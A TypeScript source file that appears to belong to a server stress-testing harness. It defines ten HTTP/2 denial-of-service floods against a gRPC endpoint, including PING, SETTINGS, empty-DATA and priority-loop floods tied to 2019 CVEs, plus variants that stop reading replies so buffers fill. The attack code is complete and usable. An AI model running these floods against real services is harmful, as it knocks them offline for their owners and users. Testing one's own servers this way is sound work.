import { type Attack, atOnce, digested, onConnection, pour, streamOf, type Target } from "./attack.ts";
import { CLAIM_PATH, call, callBlock } from "./calls.ts";
import {
  data,
  FLAG,
  frame,
  headers,
  OPENING,
  ping,
  priority,
  SETTING,
  settings,
  TYPE,
  windowUpdate,
  word,
} from "./frame.ts";

const CONNECTIONS = 4;
const WRITES = 200;
/** Frames in one write. */
const BATCH = 200;

function flood(target: Target, frameOf: (i: number) => Buffer, before: Buffer = Buffer.alloc(0)): Promise<void> {
  return atOnce(CONNECTIONS, () =>
    onConnection(target, async (connection) => {
      await connection.send(Buffer.concat([OPENING, before]));
      await pour(target, connection, WRITES, (write) =>
        Buffer.concat(Array.from({ length: BATCH }, (_, i) => frameOf(write * BATCH + i))),
      );
      await digested(connection);
    }),
  );
}

/** The same without reading what the server has to say to it. */
function unread(target: Target, frameOf: (i: number) => Buffer): Promise<void> {
  return atOnce(CONNECTIONS, () =>
    onConnection(target, async (connection) => {
      await connection.send(OPENING);
      connection.stopReading();
      const all = pour(target, connection, WRITES, (write) =>
        Buffer.concat(Array.from({ length: BATCH }, (_, i) => frameOf(write * BATCH + i))),
      );
      // Once the kernels' buffers are full, what was sent last is taken no more.
      await Promise.race([all, connection.next(2000)]);
      connection.break();
    }),
  );
}

const eight = ({ chance }: Target) => Buffer.concat([word(chance.whole(0, 2 ** 31)), word(0)]);

export const FLOODS: readonly Attack[] = [
  {
    ...{ name: "ping-flood", port: "grpc", what: "PING without end (CVE-2019-9512)" },
    round: (target) => flood(target, () => ping(eight(target))),
  },
  {
    ...{ name: "ping-unread", port: "grpc", what: "the same, and no answer is read" },
    round: (target) => unread(target, () => ping(eight(target))),
  },
  {
    ...{ name: "settings-flood", port: "grpc", what: "SETTINGS without end (CVE-2019-9515)" },
    round: (target) => flood(target, () => settings()),
  },
  {
    ...{ name: "settings-unread", port: "grpc", what: "the same, and no acknowledgement is read" },
    round: (target) => unread(target, () => settings([SETTING.headerTableSize, target.chance.whole(0, 65_536)])),
  },
  {
    ...{ name: "settings-change", port: "grpc", what: "windows and tables that change all the time, under open calls" },
    round: (target) => {
      const open = Array.from({ length: 50 }, (_, i) => headers(streamOf(i), callBlock(target, CLAIM_PATH)));
      const { chance } = target;
      const change = () =>
        settings(
          [SETTING.initialWindow, chance.whole(0, 2 ** 31 - 1)],
          [SETTING.headerTableSize, chance.whole(0, 65_536)],
          [SETTING.maxFrameSize, chance.whole(16_384, 2 ** 24 - 1)],
        );
      return flood(target, change, Buffer.concat(open));
    },
  },
  {
    ...{ name: "empty-data", port: "grpc", what: "DATA of nothing, without end (CVE-2019-9518)" },
    round: (target) =>
      flood(target, () => data(1, Buffer.alloc(0), FLAG.none), headers(1, callBlock(target, CLAIM_PATH))),
  },
  {
    ...{ name: "priority-loop", port: "grpc", what: "streams that depend on each other in circles (CVE-2019-9513)" },
    round: (target) => flood(target, (i) => priority(streamOf(i % 50), streamOf((i + 1) % 50), i % 256)),
  },
  {
    ...{ name: "window-dribble", port: "grpc", what: "WINDOW_UPDATE of one byte, without end" },
    round: (target) => flood(target, () => windowUpdate(0, 1), call(target, 1)),
  },
  {
    ...{ name: "unknown-frames", port: "grpc", what: "frames of types and flags that do not exist" },
    round: (target) => {
      const { chance } = target;
      return flood(target, () => frame(chance.whole(10, 255), chance.whole(0, 255), chance.whole(0, 9), eight(target)));
    },
  },
  {
    ...{ name: "foreign-frames", port: "grpc", what: "what a server sends: PUSH_PROMISE, GOAWAY again and again" },
    round: (target) => {
      const goAway = frame(TYPE.goAway, FLAG.none, 0, Buffer.concat([word(0), word(0), Buffer.alloc(100)]));
      const push = frame(TYPE.pushPromise, FLAG.endHeaders, 1, word(2));
      return flood(target, () => target.chance.pick([goAway, goAway, goAway, push]));
    },
  },
];
